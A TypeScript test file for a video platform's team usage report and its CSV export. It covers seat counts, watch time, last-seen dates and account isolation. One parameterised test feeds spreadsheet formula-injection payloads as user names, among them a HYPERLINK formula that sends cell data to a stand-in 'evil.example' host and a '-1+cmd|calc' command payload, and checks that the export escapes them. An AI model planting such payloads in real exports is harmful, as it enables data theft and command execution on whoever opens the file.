import Papa from 'papaparse'
import { beforeAll, describe, expect, test } from 'vitest'
import { teamCalls } from '#contract/team/team-calls.ts'
import { insertSwitchedSession } from '#server/identity/sessions/switched-session.store.ts'
import { runUpkeep } from '#support/run-upkeep.ts'
import { sessionsOf, storeKnownBrowser } from '#support/stored/sessions.ts'
import { storeViewing } from '#support/stored/watching.ts'
import { addUser, addVideo, teamWith } from '#support/team-site.ts'
import { testApp } from '#support/test-app.ts'
import { usageCsv } from './usage-report.ts'

const site = testApp({ settings: { RATE_LIMITS: '1000' } })
beforeAll(async () => {
  await addVideo(site, 'short', 60)
  await addVideo(site, 'long', 3600)
})

const watch = (
  userId: string,
  videoId: 'short' | 'long',
  viewing: { seen?: boolean; at?: Date; until?: number; played?: number; estimated?: number },
) =>
  storeViewing(site.db, {
    userId,
    videoId,
    at: viewing.at ?? site.clock.now(),
    seen: viewing.seen ?? false,
    seconds: viewing.until ?? 0,
    played: viewing.played ?? 0,
    estimated: viewing.estimated ?? 0,
  })

describe('the usage report', () => {
  test('names the users with a seat and without, in the order of their seats, and no removed one', async () => {
    const team = await teamWith(site, 3)
    await addUser(site, team.accountId, 'b@usage.example', { name: 'Bea' })
    await addUser(site, team.accountId, 'gone@usage.example', { removed: true, confirmed: false })
    await addUser(site, team.accountId, 'a@usage.example', { name: 'Abe', confirmed: false })
    await addUser(site, team.accountId, 'c@usage.example', { name: 'Cy' })
    const { status, body } = await team.owner.call(teamCalls.usageReport)
    expect(status).toBe(200)
    expect(body.seats).toEqual({ used: 4, total: 3 })
    expect(body.users.slice(1)).toEqual(
      [
        ['Bea', 'b@usage.example', true, true],
        ['Abe', 'a@usage.example', false, true],
        ['Cy', 'c@usage.example', true, false],
      ].map(([name, email, confirmed, seat]) => ({
        id: expect.any(String),
        name,
        email,
        confirmed,
        seat,
        lastSeenAt: null,
        videosOpened: 0,
        watchedSeconds: 0,
        estimated: false,
      })),
    )
  })

  test('counts each opened video once, and the played time of each', async () => {
    const team = await teamWith(site, 5)
    const id = await addUser(site, team.accountId, 'watcher@usage.example')
    await watch(id, 'short', { seen: true, until: 5, played: 1.35 })
    await watch(id, 'long', { until: 90.4, at: new Date('2026-12-24T18:00:00Z'), played: 7300 })
    const { users } = (await team.owner.call(teamCalls.usageReport)).body
    expect(users[1]).toMatchObject({
      videosOpened: 2,
      watchedSeconds: 7301,
      estimated: false,
      lastSeenAt: '2026-12-24T18:00:00.000Z',
    })
  })

  test('marks users with estimated parts, on the screen and in the file', async () => {
    const team = await teamWith(site, 5)
    const id = await addUser(site, team.accountId, 'before@usage.example', { name: 'Before' })
    await watch(id, 'short', { seen: true, played: 30, estimated: 60 })
    const { users } = (await team.owner.call(teamCalls.usageReport)).body
    expect(users.map(({ watchedSeconds, estimated }) => [watchedSeconds, estimated])).toEqual([
      [0, false],
      [90, true],
    ])
    const { raw } = await team.owner.call(teamCalls.usageCsv)
    expect(raw.rawPayload.toString('utf8')).toContain('before@usage.example,yes,yes,2026-')
    expect(raw.rawPayload.toString('utf8')).toMatch(/before@usage\.example,.*,1,90,yes\r?\n/)
  })

  test('includes visits without viewing, even after the session has ended', async () => {
    const team = await teamWith(site, 5)
    const lastSeen = async () => {
      const { users } = (await team.owner.call(teamCalls.usageReport)).body
      return users.find(({ id }) => id === team.ownerId)?.lastSeenAt
    }
    expect(await lastSeen()).toBe(site.clock.real().toISOString())
    const seen = new Date('2026-11-30T10:00:00Z')
    const id = await addUser(site, team.accountId, 'left@usage.example')
    await storeKnownBrowser(site.db, id, seen)
    await runUpkeep(site.services)
    const { users } = (await team.owner.call(teamCalls.usageReport)).body
    expect(users[1]?.lastSeenAt).toBe(seen.toISOString())
  })

  test('does not count the admin, switched into an account, as the user', async () => {
    const [team, admin] = [await teamWith(site, 5), await teamWith(site, 5)]
    const id = await addUser(site, team.accountId, 'away@usage.example')
    const [own] = await sessionsOf(site.db, admin.ownerId)
    const now = site.clock.real()
    await site.db.transaction().execute((trx) =>
      insertSwitchedSession(trx, {
        tokenHash: Buffer.alloc(32, 7),
        userId: id,
        from: own?.token_hash ?? Buffer.alloc(0),
        userAgent: null,
        network: '127.0.0.1',
        now,
        expiresAt: new Date(now.getTime() + 60_000),
      }),
    )
    const { users } = (await team.owner.call(teamCalls.usageReport)).body
    expect(users[1]).toMatchObject({ id, lastSeenAt: null })
  })

  test('contains nothing of another account', async () => {
    const [mine, theirs] = [await teamWith(site, 5), await teamWith(site, 5)]
    await watch(await addUser(site, theirs.accountId, 'zza7@usage.example', { name: 'zzA7' }), 'long', {
      until: 9,
    })
    for (const call of [teamCalls.usageReport, teamCalls.usageCsv]) {
      const answer = await mine.owner.call(call)
      expect(answer.status).toBe(200)
      expect(answer.text).not.toMatch(/zza7/i)
    }
  })
})

describe('the report as a file', () => {
  test('is an attachment in UTF-8 that spreadsheet programs read as such', async () => {
    const team = await teamWith(site, 5)
    await addUser(site, team.accountId, 'jo@usage.example', { name: 'Jörg "J" Öz, Łódź; 李' })
    const { status, headers, raw } = await team.owner.call(teamCalls.usageCsv)
    expect(status).toBe(200)
    expect(headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(headers['content-disposition']).toMatch(/^attachment; filename="users-\d{4}-\d\d-\d\d\.csv"$/)
    expect(raw.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
    const { data, errors } = Papa.parse(raw.rawPayload.toString('utf8').slice(1), {
      header: true,
      skipEmptyLines: true,
    })
    expect(errors).toEqual([])
    expect(data).toHaveLength(2)
    expect(data[1]).toEqual({
      Name: 'Jörg "J" Öz, Łódź; 李',
      Email: 'jo@usage.example',
      Confirmed: 'yes',
      Seat: 'yes',
      'Last seen': '',
      'Videos opened': '0',
      'Watched seconds': '0',
      'Partly estimated': 'no',
    })
  })

  test.each([
    '=HYPERLINK("http://evil.example?"&A1)',
    '+1',
    '-1+cmd|calc',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '＝1',
  ])('contains no name as a formula: %j', (name) => {
    const csv = usageCsv([
      {
        id: 'u',
        name,
        email: '=a@x.de',
        confirmed: true,
        seat: true,
        lastSeenAt: null,
        videosOpened: 1,
        watchedSeconds: 60,
        estimated: false,
      },
    ])
    const [row] = Papa.parse<Record<string, string>>(csv.slice(1), {
      header: true,
      skipEmptyLines: true,
    }).data
    expect(row).toMatchObject({ Name: `'${name}`, Email: "'=a@x.de", 'Watched seconds': '60' })
  })
})
